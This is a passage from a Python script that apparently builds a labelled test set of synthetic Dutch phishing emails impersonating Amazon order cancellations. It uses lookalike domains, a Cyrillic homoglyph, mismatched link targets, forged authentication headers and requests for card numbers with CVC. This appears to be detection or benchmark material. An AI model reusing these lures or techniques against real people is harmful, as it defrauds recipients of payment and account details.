                            "<b>tijdelijk geblokkeerd</b> en is uw laatste bestelling <b>geannuleerd</b>.",
                            "Voer de onderstaande verificatiecode in op onze beveiligde pagina om uw account te "
                            "herstellen. Doet u dit niet binnen 24 uur, dan wordt uw account definitief gesloten.",
                            '<span style="font-size:26px;letter-spacing:4px;font-weight:bold">NL-559031</span>'],
                           "Account herstellen", "https://amazon-nl-account.help/herstel?code=NL559031",
                           footer=["Amazon EU S.\u00e0 r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg"], order=_o,
                           order_label="Bestelling #"),
           charset="utf-8", cte="qp",
           pre=[recv("mail.amazon-nl-account.help", "91.92.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.kpnmail.nl"),
                auth_hdr("spf=pass smtp.mailfrom=amazon-nl-account.help; dkim=pass header.d=amazon-nl-account.help; "
                         "dmarc=pass header.from=amazon-nl-account.help", "mx.kpnmail.nl")], tz=1)

plain_mail("lookalike", "nl", "payment_issue", True, None,
           "outlook.com sender asks to reply with card details",
           "Amazon.nl Betalingen", "amazon.betalingen.nl@outlook.com", NL_TO[6],
           "Uw Amazon bestelling is geannuleerd \u2013 betaling geweigerd",
           text="""Geachte klant,

Helaas is uw bestelling (ref. 402-66310-88) geannuleerd omdat uw betaling door de bank is geweigerd.
Totaalbedrag: \u20ac 356,75

Om uw bestelling opnieuw te activeren kunt u deze e-mail beantwoorden met de volgende gegevens:

  - Naam kaarthouder
  - Kaartnummer
  - Vervaldatum
  - Beveiligingscode (CVC)

Onze afdeling betalingen verwerkt de betaling dan handmatig en uw bestelling wordt binnen 24 uur verzonden.

Met vriendelijke groet,
Amazon.nl Betalingen
""", charset="iso-8859-15", cte="8bit", header_charset="iso-8859-15",
           pre=[recv("AM7EUR03-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rng.randrange(1, 120), rng.randrange(1, 250)),
                     "mx.outlook.com")], tz=1)

_o = order_no("408")
_evil = "https://annulering-service.xyz/be/inloggen?id=%s" % rand_alnum(22, string.ascii_lowercase + string.digits)
plain_mail("lookalike", "nl", "technical_issue", True, None,
           "sender amazon.com.be.<evil>.xyz; link text shows amazon.com.be, href elsewhere; polished",
           "Amazon.com.be", "bestelling@amazon.com.be.annulering-service.xyz", NL_TO[4],
           "Uw Amazon.com.be-bestelling #%s is geannuleerd" % _o,
           text=("Hallo Eva,\n\nDoor een systeemfout bij de verwerking is uw bestelling #%s geannuleerd.\n"
                 "Bevestig uw gegevens om uw terugbetaling van \u20ac 214,50 te ontvangen:\n"
                 "https://www.amazon.com.be/gp/css/order-history\n\nAmazon.com.be\n" % _o),
           html=phish_html("Amazon.com.be", "amazon.com.be", "Hallo Eva,",
                           ["Door een systeemfout bij de verwerking is uw bestelling geannuleerd. Het bedrag van "
                            "<b>\u20ac 214,50</b> is al van uw rekening afgeschreven.",
                            "Bevestig uw betaalgegevens via Uw bestellingen om de terugbetaling te ontvangen:"],
                           None, None,
                           shown_links=[("https://www.amazon.com.be/gp/css/order-history", _evil),
                                        ("https://www.amazon.com.be/gp/help/customer/display.html", _evil)],
                           footer=["Deze e-mail is verzonden vanaf een adres dat geen inkomende e-mail kan ontvangen.",
                                   "Amazon vraagt u nooit per e-mail om uw wachtwoord."],
                           order=_o, order_label="Bestelling #"),
           charset="utf-8", cte="qp", html_cte="b64",
           pre=[recv("srv3.annulering-service.xyz", "185.173.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.skynet.be"),
                auth_hdr("spf=pass smtp.mailfrom=annulering-service.xyz; dkim=none; "
                         "dmarc=none header.from=amazon.com.be.annulering-service.xyz", "mx.skynet.be")], tz=2)

_o = order_no("404")
plain_mail("lookalike", "nl", "inventory_shortage", True, None,
           "Cyrillic o in display name 'Amazon.nl'; out-of-stock claim, refund link to foreign domain",
           "Amaz\u043en.nl", "noreply@pakket-update.net", NL_TO[0],
           "Annulering: artikel niet meer op voorraad \u2013 bestelling #%s" % _o,
           html=phish_html("Amazon.nl", "amazon.nl", "Hallo,",
                           ["Het door u bestelde artikel <b>Dyson V15 Detect Absolute</b> is helaas niet meer op "
                            "voorraad. Uw bestelling is daarom geannuleerd.",
                            "Vraag uw terugbetaling van <b>\u20ac 699,00</b> binnen 48 uur aan, anders wordt het bedrag "
                            "als cadeaubon op uw account gezet."],
                           "Terugbetaling aanvragen", "https://pakket-update.net/nl/terugbetaling/%s" % rand_alnum(8),
                           footer=["\u00a9 1996-2024, Amazon.com, Inc. of gelieerde ondernemingen"], order=_o,
                           order_label="Bestelling #"),
           charset="utf-8", cte="b64",
           pre=[recv("mx1.pakket-update.net", "77.83.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=neutral smtp.mailfrom=pakket-update.net; dkim=none; dmarc=none header.from=pakket-update.net")],
           tz=1)

plain_mail("lookalike", "nl", "unknown", True, None,
           "amaz0n-nl.com look-alike domain; order WILL be cancelled unless address confirmed and fee paid",
           "Amazon.nl", "service@amaz0n-nl.com", NL_TO[1],
           "Uw bestelling wordt geannuleerd: adres kon niet worden bevestigd",
           text="""Hallo Joost,

We konden uw pakket voor bestelling #402-7730148-5522 niet bezorgen omdat uw adres onvolledig is.
Uw bestelling wordt binnen 24 uur geannuleerd als u uw adres niet bevestigt en de herbezorgkosten
van \u20ac 1,99 betaalt.

Adres bevestigen: https://amaz0n-nl.com/bezorging/bevestigen

Amazon.nl
""",
           html=phish_html("Amazon.nl", "amazon.nl", "Hallo Joost,",
                           ["We konden uw pakket niet bezorgen omdat uw adres onvolledig is.",
                            "<b>Uw bestelling wordt binnen 24 uur geannuleerd</b> als u uw adres niet bevestigt en de "
                            "herbezorgkosten van \u20ac 1,99 betaalt."],
                           "Adres bevestigen", "https://amaz0n-nl.com/bezorging/bevestigen",
                           footer=["Amazon.nl \u2013 Klantenservice"], order="402-7730148-5522",
                           order_label="Bestelling #"),
           charset="windows-1252", cte="qp", header_charset="windows-1252",
           pre=[recv("smtp.amaz0n-nl.com", "194.26.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.ziggo.nl"),
                auth_hdr("spf=pass smtp.mailfrom=amaz0n-nl.com; dkim=pass header.d=amaz0n-nl.com; dmarc=pass header.from=amaz0n-nl.com",
                         "mx.ziggo.nl")], tz=1)

plain_mail("lookalike", "nl", "unknown", False, None,
           "crude yahoo sender, no order number, no reason given",
           "Amazon", "amazon.nl.bestelling@yahoo.com", "undisclosed-recipients:;",
           "Je Amazon bestelling is gecanceld!!",
           text="""Beste klant

Je Amazon bestelling is gecanceld. Klik op de link hieronder om je geld terug te krijgen
anders vervalt je terugbetaling over 2 dagen.

>> http://bit.ly/3amzn-nl-terug

Amazon Team Nederland
""", charset="us-ascii", cte="7bit",
           pre=[recv("sonic310-23.consmr.mail.ir2.yahoo.com", "77.238.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)),
                     "mx.kpnmail.nl"),
                auth_hdr("dkim=pass header.d=yahoo.com; spf=pass smtp.mailfrom=yahoo.com; dmarc=pass (p=REJECT) header.from=yahoo.com",
                         "mx.kpnmail.nl")])

_o = order_no("405")
plain_mail("lookalike", "nl", "customer_request", True, None,
           "sent via mailer on unrelated domain: 'you cancelled; not you? click' with identity check",
           "Amazon", "info@nieuws.fietsenwinkel-hoorn.nl", NL_TO[7],
           "Bevestiging van uw annulering \u2013 bestelling #%s" % _o,
           html=phish_html("Amazon", "amazon", "Hallo,",
                           ["Zoals door u aangevraagd is uw bestelling geannuleerd.",
                            "Artikel: Samsung Galaxy S24 FE 256 GB<br>Bedrag: \u20ac 649,00",
                            "Heeft u deze annulering <b>niet</b> aangevraagd? Dan gebruikt mogelijk iemand anders uw "
                            "account. Bevestig uw identiteit zodat de terugbetaling niet naar een onbekende rekening gaat."],
                           "Dit was ik niet", "https://mailer.fietsenwinkel-hoorn.nl/c/%s" % rand_alnum(30),
                           footer=["Amazon.nl \u2013 Klantenservice"], order=_o, order_label="Bestelling #"),
           charset="utf-8", cte="qp",
           pre=[recv("mailer.fietsenwinkel-hoorn.nl", "185.107.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.xs4all.nl"),
                auth_hdr("dkim=pass header.d=fietsenwinkel-hoorn.nl; spf=pass smtp.mailfrom=nieuws.fietsenwinkel-hoorn.nl; "
                         "dmarc=pass header.from=nieuws.fietsenwinkel-hoorn.nl", "mx.xs4all.nl")], tz=1)


# =================================================================== write
def main():
    os.makedirs(OUT, exist_ok=True)
    for fn in os.listdir(OUT):
        if fn.endswith(".eml"):
            os.remove(os.path.join(OUT, fn))
    order = list(range(len(MAILS)))
    rng.shuffle(order)          # files are not grouped by kind or language
    labels = []
    for n, idx in enumerate(order):
        m = MAILS[idx]
        name = "s1%03d.eml" % (n + 1)
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(build(m))
        labels.append({"file": name, "kind": m["kind"], "language": m["language"], "cause": m["cause"],
                       "states_reason": m["states_reason"], "marketplace": m["marketplace"], "note": m["note"]})
    with open(os.path.join(HERE, "labels.json"), "w", encoding="utf-8") as f:
        json.dump(labels, f, ensure_ascii=False, indent=1)
    print("wrote %d mails" % len(labels))


if __name__ == "__main__":
    main()
